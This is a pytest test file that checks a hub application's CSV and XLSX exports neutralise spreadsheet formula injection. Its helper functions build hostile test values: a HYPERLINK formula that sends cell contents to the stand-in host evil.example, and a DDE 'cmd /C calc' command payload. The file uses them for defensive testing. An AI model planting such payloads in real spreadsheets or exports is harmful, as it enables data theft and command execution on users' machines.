"""Formula neutralisation in every export the app offers (hub/cells.py, hub/sheets.py): a CSV
cell that would begin with = + - @, a tab or a carriage return is written with a leading
apostrophe; in XLSX it is a text cell holding the value as it is (a text cell never runs, and
no formula cell is ever written); an import of the file gives back the value as it was.

The files are read here with the csv module and openpyxl, as a spreadsheet would see them,
not through Bottega's own reader. The hub trims the whitespace around what a person types,
so a value beginning with a tab or a carriage return is written straight into its row (as an
older version or another client might have left it) before the export."""
from __future__ import annotations

import csv
import io
from datetime import date, time, timedelta

import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from sqlmodel import Session, select
from streamlit.delta_generator import DeltaGenerator

from db.engine import reading, writing
from db.models import (AuditEntry, Payer, Booking, Contact, Enrolment, Instructor, Interaction, Lease,
                       Partner, PartnerTenantLink, ProgrammeItem, ProgrammeSession, Site, Space,
                       Tenant, TenantListing, User)
from hub.admin import transfer
from hub.billing import charges as billing_charges
from hub.billing import invoices, payments
from hub.admin.transfer.formats import read_table
from hub.cells import FORMULA_STARTS
from hub import sites
from hub.occupancy import bookings, leases, spaces
from hub.partners import interactions, organisations
from hub.partners import links as partner_links
from hub.partners.directory import PartnerFilter
from hub.programme import exports as programme_exports
from hub.programme import items
from hub.programme.enrolments import enrol
from hub.programme.views import item_rows
from hub.records import record_event
from hub.tenants import listings, roster
from tests.apptest import open_page, signed_in_app
from tests.worlds import item, write

CHARACTERS = {"=": "equals", "+": "plus", "-": "minus", "@": "at", "\t": "tab", "\r": "cr"}
TRIMMED = ("\t", "\r")    # what the hub trims off a typed value
XLSX = "xlsx"


def dangerous(char: str, what: str = "cell") -> str:
    """A value a spreadsheet would run, with the quotes and commas CSV has to escape."""
    return f'{char}HYPERLINK("https://evil.example/?{what}=" & A1, "open {what}")'


def bare(char: str, what: str = "cell") -> str:
    """One with nothing CSV must quote, unless the carriage return makes it."""
    return f"{char}cmd|' /C calc'!{what}"


def kept(value: str) -> str:
    """What the hub keeps of a value typed in a form or read from an import."""
    return value.strip()


def plant(model, row_id: int, **values) -> None:
    """Write values into a row as they are, past the hub's trimming."""
    with writing() as session, session.begin():
        row = session.get(model, row_id)
        for field, value in values.items():
            setattr(row, field, value)


# --- reading a file as a spreadsheet does -------------------------------------------------------

def cells_of(data: bytes, file_format: str) -> list[list[str]]:
    """Every row of the file, header first, as text; XLSX cells as Excel reads them."""
    if file_format == "csv":
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = []
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row), "a formula cell in the workbook"
        rows.append(["" if cell.value is None else unescape(str(cell.value)) for cell in row])
    return rows


def column(data: bytes, file_format: str, name: str) -> list[str]:
    header, *rows = cells_of(data, file_format)
    return [row[header.index(name)] for row in rows]


def assert_no_formula(data: bytes, file_format: str, where: str) -> None:
    """No CSV cell starts like a formula; no XLSX cell is one (cells_of checks every cell)."""
    for line, row in enumerate(cells_of(data, file_format), start=1):
        for cell in row:
            assert file_format == XLSX or not cell.startswith(FORMULA_STARTS), \
                f"{where}, row {line}: {cell!r} would run as a formula"


def written(value: str, file_format: str) -> str:
    """How the file holds a formula-like value: behind an apostrophe in CSV, as it is in an
    XLSX text cell."""
    return value if file_format == XLSX else "'" + value


def assert_neutralised(data: bytes, file_format: str, name: str, value: str,
                       where: str) -> None:
    """The column holds the value behind one apostrophe (CSV) or as it is in a text cell
    (XLSX), and no cell of the file would run as a formula."""
    cells = column(data, file_format, name)
    assert written(value, file_format) in cells, \
        f"{where}: {written(value, file_format)!r} is not in column {name}"
    assert ("'" + value if file_format == XLSX else value) not in cells
    assert_no_formula(data, file_format, where)


def formats_of(*offered: str):
    return pytest.mark.parametrize("file_format", offered)


characters = pytest.mark.parametrize("char", list(CHARACTERS), ids=list(CHARACTERS.values()))


# --- the transfer kinds (Admin › Import / export, `python -m db export`) -----------------------

# kind: (model, the user-editable text field that holds the value; its column has its name)
FIELDS = {"sites": (Site, "name"), "spaces": (Space, "name"), "tenants": (Tenant, "name"), "leases": (Lease, "notes"),
          "programme": (ProgrammeItem, "title"), "enrolments": (Enrolment, "participant_name"),
          "partners": (Partner, "name")}
# In the order an empty hub imports them: sites first, spaces and tenants before leases, items before
# the people enrolled in them.
IMPORT_ORDER = ("sites", "spaces", "tenants", "leases", "programme", "enrolments", "partners")


def every_kind_holding(plan, char: str) -> dict[str, tuple[int, str]]:
    """One record of each kind with a dangerous value in a text field; kind -> (id, value)."""
    m = plan["manager"]
    values = {kind: (bare if kind in ("spaces", "leases", "enrolments") else dangerous)(
        char, kind) for kind in FIELDS}
    site = write(sites.add_site, actor=m, code="F", name=values["sites"], city="Siena")
    space = write(spaces.add_space, actor=m, site_id=plan["site"], code="F1",
                  name=values["spaces"], kind="laboratory", area_m2=12, capacity=1,
                  monthly_rent="300", leasable=True)
    tenant = write(roster.add_tenant, actor=m, site_id=plan["site"], name=values["tenants"],
                   sector="ceramics", origin_country="IT", joined_on=date(2020, 1, 6))
    held = write(leases.lease_space, actor=m, space_id=space.id, tenant_id=tenant.id,
                 starts_on=date(2021, 2, 1), ends_on=None, monthly_rent="300",
                 notes=values["leases"])
    course = item(plan, title=values["programme"])   # no session: imports as it is
    person = write(enrol, actor=m, item_id=course.id, participant_name=values["enrolments"],
                   email="ines@example.org")
    partner = write(organisations.add_partner, actor=m, name=values["partners"],
                    kind="institution", country="IT")
    ids = {"sites": site.id, "spaces": space.id, "tenants": tenant.id, "leases": held.id,
           "programme": course.id, "enrolments": person.id, "partners": partner.id}
    if char in TRIMMED:
        for kind, (model, field) in FIELDS.items():
            plant(model, ids[kind], **{field: values[kind]})
    return {kind: (ids[kind], values[kind]) for kind in FIELDS}


@characters
@formats_of(*transfer.FORMATS)
def test_every_transfer_kind_is_neutralised_and_imports_back(plan, fresh, char,
                                                             file_format):
    planted = every_kind_holding(plan, char)
    engine, importer = fresh
    for kind in IMPORT_ORDER:
        model, field = FIELDS[kind]
        _, value = planted[kind]
        with reading() as session:
            data = transfer.export_file(session, actor=plan["manager"],
                                        kind=transfer.get_kind(kind), file_format=file_format)
        assert_neutralised(data, file_format, field, value, f"{kind}.{file_format}")
        header, rows = read_table(data, f"{kind}.{file_format}")
        assert value in [cells[header.index(field)] for _, cells in rows], \
            f"{kind}.{file_format}: the import reader does not give back {value!r}"
        with Session(engine, expire_on_commit=False) as session, session.begin():
            transfer.import_file(session, actor=importer, kind=transfer.get_kind(kind),
                                 data=data, file_name=f"{kind}.{file_format}")
        with Session(engine) as session:
            found = session.exec(select(getattr(model, field))).all()
        assert kept(value) in found, f"{kind}: imported {found}, not {kept(value)!r}"


# --- the published programme (Courses › Calendar) -----------------------------------------------

def published_item(plan, char: str) -> tuple[str, str]:
    """A published item whose title and off-site session place are dangerous."""
    title, place = dangerous(char, "title"), bare(char, "place")
    course = item(plan, title=title)
    row = write(items.add_session, actor=plan["manager"], item_id=course.id,
                day=date(2026, 6, 2), start=time(18), end=time(21), location=place)
    write(items.edit_item, actor=plan["manager"], item_id=course.id, version=None,
          status="published")
    if char in TRIMMED:
        plant(ProgrammeItem, course.id, title=title)
        plant(ProgrammeSession, row.id, location=place)
    return title, place


@characters
def test_the_published_programme_csv_is_neutralised(plan, char):
    from ui.programme.data import published_csv
    title, place = published_item(plan, char)
    data = published_csv(None)
    assert_neutralised(data, "csv", "title", title, "bottega-programme.csv")
    assert_neutralised(data, "csv", "location", place, "bottega-programme.csv")
    header, rows = read_table(data, "programme.csv")
    assert [cells[header.index("title")] for _, cells in rows] == [title]


@characters
def test_an_instructors_enrolment_list_is_neutralised(plan, char):
    from ui.widgets import csv_bytes
    name = bare(char, "name")
    person = write(enrol, actor=plan["manager"], item_id=plan["wheel"], participant_name=name,
                   email="ines@example.org")
    if char in TRIMMED:
        plant(Enrolment, person.id, participant_name=name)
    with reading() as session:
        rows = programme_exports.enrolment_list(session, plan["wheel"], with_contacts=True)
    data = csv_bytes(pd.DataFrame(rows))
    assert_neutralised(data, "csv", "name", name, "enrolment list")
    header, back = read_table(data, "enrolments.csv")
    assert [cells[header.index("name")] for _, cells in back] == [name]


# --- the partner directory (Partners › Download partners) ---------------------------------------

@characters
@formats_of("csv", XLSX)
def test_the_partner_directory_export_is_neutralised(network, char, file_format):
    from ui.partners.export import export_frame, xlsx_bytes
    from ui.widgets import csv_bytes
    values = {"name": bare(char, "name"), "city": dangerous(char, "city"),
              "notes": dangerous(char, "notes")}
    partner = write(organisations.add_partner, actor=network["manager"], kind="institution",
                    country="IT", **values)
    contact = write(organisations.add_contact, actor=network["manager"],
                    partner_id=partner.id, name=dangerous(char, "contact"))
    if char in TRIMMED:
        plant(Partner, partner.id, **values)
        plant(Contact, contact.id, name=dangerous(char, "contact"))
    frame = export_frame(network["manager"], PartnerFilter())
    data = (csv_bytes if file_format == "csv" else xlsx_bytes)(frame)
    for field, value in values.items():
        assert_neutralised(data, file_format, field, value, f"partners.{file_format}")
    contacts = column(data, file_format, "contacts")
    assert any(cell.startswith(written(char, file_format)) for cell in contacts)
    header, rows = read_table(data, f"partners.{file_format}")
    names = [cells[header.index("name")] for _, cells in rows]
    assert values["name"] in names


# --- the audit log (Admin › Audit log › Export CSV) ---------------------------------------------

@characters
def test_the_audit_log_export_is_neutralised(base, char):
    from ui.admin.audit import load_export
    from ui.widgets import csv_bytes
    value = dangerous(char, "name")
    write(organisations.add_partner, actor=base["manager"], name=value, kind="institution",
          country="IT")
    # A name the log holds for someone the users table no longer limits (an older version,
    # an import of a log): the export must not trust it either. (Usernames hold 32 characters.)
    username = bare(char, "A0")
    stranger = User(id=None, username=username, name="x", email="", password_hash="",
                    role="manager")
    with writing() as session, session.begin():
        record_event(session, stranger, "restore", "database", "backup.db")
    today = date.today()
    frame = load_export(base["manager"], "boss", None, None, today - timedelta(days=1),
                        today + timedelta(days=1))
    data = csv_bytes(frame)
    assert_neutralised(data, "csv", "User", username, "bottega-audit-log.csv")
    changes = column(data, "csv", "Changes (old → new)")
    assert any(kept(value) in cell for cell in changes)
    header, rows = read_table(data, "audit.csv")
    assert username in [cells[header.index("user")] for _, cells in rows]
    with reading() as session:
        assert username in session.exec(select(AuditEntry.username)).all()


# --- every download button of every page ----------------------------------------------------------

SPREADSHEETS = ("csv", XLSX)
# What each page offers as a spreadsheet, by file name (a new button is checked too: every
# CSV or XLSX a page offers goes through the same assertions).
PAGES = {
    "tenants": (("Directory", "Public listings"), {"tenants.csv", "tenants.xlsx",
                                                   "listings.csv"}),
    "occupancy": ((None,), {"vacancies.csv", "leases.csv"}),
    "courses": (("Calendar", "Programme", "Item"), {"bottega-programme.csv",
                                                    "programme-list.csv", "enrolments-*.csv"}),
    "partners": ((None,), {"partners.csv", "partners.xlsx"}),
    "admin": ((None,), {"bottega-audit-log.csv"} | {f"bottega-{kind}-*.{file_format}"
                                                    for kind in transfer.KINDS
                                                    for file_format in transfer.FORMATS}),
}
# Checked only for cells that would run: the audit log names each changed field before its
# value ("name: =…"), so no value starts a cell; a template holds an example, not records.
EMBEDDED = ("bottega-audit-log.csv", "bottega-*-template.csv", "bottega-*-template.xlsx")


@pytest.fixture
def offered(monkeypatch):
    """Every download button the page draws: [(file name, data or the function making it)]."""
    import streamlit
    buttons = []
    real = DeltaGenerator.download_button

    def keep(self, label, data=None, file_name=None, *args, **kwargs):
        buttons.append((file_name, data))
        return real(self, label, data, file_name, *args, **kwargs)
    monkeypatch.setattr(DeltaGenerator, "download_button", keep)
    monkeypatch.setattr(streamlit, "download_button",
                        lambda *args, **kwargs: keep(streamlit._main, *args, **kwargs))
    return buttons


def sweep_world(plan) -> None:
    """For each dangerous character: a tenant leasing a space today, with a published
    listing; a vacant space; a published item with a session in a week, off site; a partner;
    a site; and six people enrolled in the item the Item tab opens on. All dates follow
    today."""
    m, today = plan["manager"], date.today()
    for n, char in enumerate(CHARACTERS, start=1):
        value = {what: (dangerous if what in ("bio", "item") else bare)(char, what)
                 for what in ("tenant", "bio", "space", "item", "place", "partner", "site")}
        site = write(sites.add_site, actor=m, code=f"S{n}", name=value["site"], city="Siena")
        tenant = write(roster.add_tenant, actor=m, site_id=plan["site"], name=value["tenant"],
                       business=f"Bottega {n}", sector="ceramics", origin_country="IT",
                       joined_on=date(2020, 1, 6))
        listing = write(listings.edit_listing, actor=plan["communication"],
                        tenant_id=tenant.id, version=None, bio=value["bio"], published=True)
        held = write(spaces.add_space, actor=m, site_id=plan["site"], code=f"H{n}",
                     name=f"Held {n}", kind="laboratory", area_m2=10, capacity=1,
                     monthly_rent="200", leasable=True)
        write(leases.lease_space, actor=m, space_id=held.id, tenant_id=tenant.id,
              starts_on=today - timedelta(days=30), ends_on=None, monthly_rent="200")
        vacant = write(spaces.add_space, actor=m, site_id=plan["site"], code=f"V{n}",
                       name=value["space"], kind="laboratory", area_m2=10, capacity=1,
                       monthly_rent="200", leasable=True)
        course = item(plan, title=value["item"])
        meeting = write(items.add_session, actor=m, item_id=course.id,
                        day=today + timedelta(days=7 + n), start=time(18), end=time(21),
                        location=value["place"])
        write(items.edit_item, actor=m, item_id=course.id, version=None,
              status="published")
        partner = write(organisations.add_partner, actor=m, name=value["partner"],
                        kind="institution", country="IT")
        # The records only an import/export kind shows: a guest's booking, an instructor,
        # a partner's contact, an interaction and a link, each with the value.
        guest = write(bookings.book, actor=m, space_id=plan["POT"],
                      day=date(2026, 6, 1) + timedelta(weeks=n), start=time(9), end=time(10),
                      guest_name=value["place"])
        teacher = write(items.add_instructor, actor=m, name=value["tenant"])
        person = write(organisations.add_contact, actor=m, partner_id=partner.id,
                       name=value["partner"])
        logged = write(interactions.log_interaction, actor=m, partner_id=partner.id,
                       day=today - timedelta(days=1), kind="call", summary=value["item"])
        link = write(partner_links.link_tenant, actor=m, partner_id=partner.id,
                     tenant_id=tenant.id, kind="mentors", notes=value["bio"])
        # Billing's files: a partner billed a one-off charge, its payment's notes.
        charge = write(billing_charges.add_charge, actor=m, site_id=plan["site"], kind="other",
                       amount="10", day=today, description=value["item"],
                       partner_id=partner.id)
        write(payments.record_payment, actor=m, payer_id=charge.payer_id, received_on=today,
              amount="5", method="cash", reference=f"REF-{n}", notes=value["bio"])
        if char in TRIMMED:
            plant(Payer, charge.payer_id, name=value["partner"])
            plant(Booking, guest.id, guest_name=value["place"])
            plant(Instructor, teacher.id, name=value["tenant"])
            plant(Contact, person.id, name=value["partner"])
            plant(Interaction, logged.id, summary=value["item"])
            plant(PartnerTenantLink, link.id, notes=value["bio"])
            plant(Tenant, tenant.id, name=value["tenant"])
            plant(TenantListing, listing.id, bio=value["bio"])
            plant(Space, vacant.id, name=value["space"])
            plant(ProgrammeItem, course.id, title=value["item"])
            plant(ProgrammeSession, meeting.id, location=value["place"])
            plant(Partner, partner.id, name=value["partner"])
            plant(Site, site.id, name=value["site"])
    write(invoices.bill_month, actor=m, month=today, site_id=plan["site"], issued_on=today)
    with reading() as session:   # the Courses screen's default filters
        first = item_rows(session, start=today - timedelta(days=365),
                          end=today + timedelta(days=180))[0]
    for char in CHARACTERS:
        person = write(enrol, actor=m, item_id=first.id, participant_name=bare(char, "who"))
        if char in TRIMMED:
            plant(Enrolment, person.id, participant_name=bare(char, "who"))


def files_offered(buttons) -> dict[str, bytes]:
    files = {}
    for file_name, data in buttons:
        suffix = (file_name or "").rsplit(".", 1)[-1]
        if suffix in SPREADSHEETS:
            data = data() if callable(data) else data
            files[file_name] = data.encode("utf-8") if isinstance(data, str) else data
    return files


def matches(file_name: str, pattern: str) -> bool:
    start, _, end = pattern.partition("*")
    return file_name == pattern or ("*" in pattern and file_name.startswith(start)
                                    and file_name.endswith(end))


@pytest.mark.parametrize("page", list(PAGES))
def test_every_spreadsheet_a_page_offers_is_neutralised(plan, offered, page):
    sweep_world(plan)
    tabs, expected = PAGES[page]
    at = open_page(signed_in_app("boss"), page)
    for tab in tabs:
        if tab is not None:
            at.session_state[f"{page}_tab"] = tab
            at = at.run()
        assert not at.exception, at.exception
    files = files_offered(offered)
    for pattern in expected:
        assert any(matches(name, pattern) for name in files), f"{page} offers no {pattern}"
    for name, data in files.items():
        file_format = name.rsplit(".", 1)[-1]
        assert_no_formula(data, file_format, name)
        if any(matches(name, pattern) for pattern in EMBEDDED):
            continue
        cells = [cell for row in cells_of(data, file_format)[1:] for cell in row]
        for char, label in CHARACTERS.items():
            assert any(cell.startswith(written(char, file_format)) for cell in cells), \
                f"{name}: no neutralised value starting with {label}"
